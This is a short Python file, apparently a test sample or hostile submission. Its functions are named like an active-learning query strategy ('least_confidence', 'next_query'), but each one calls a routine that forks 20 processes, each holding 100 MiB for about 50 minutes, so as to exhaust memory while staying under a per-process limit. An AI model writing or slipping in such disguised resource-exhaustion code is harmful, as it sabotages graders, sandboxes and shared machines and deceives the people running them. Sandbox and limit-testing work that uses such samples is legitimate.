"""Takes memory in several processes, each below the limit of one."""

import os
import time


def attack(probabilities):
    for _ in range(20):
        if os.fork() == 0:
            taken = bytearray(b"x" * (100 * 2**20))
            time.sleep(3000)
            os._exit(len(taken))
    time.sleep(3000)


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
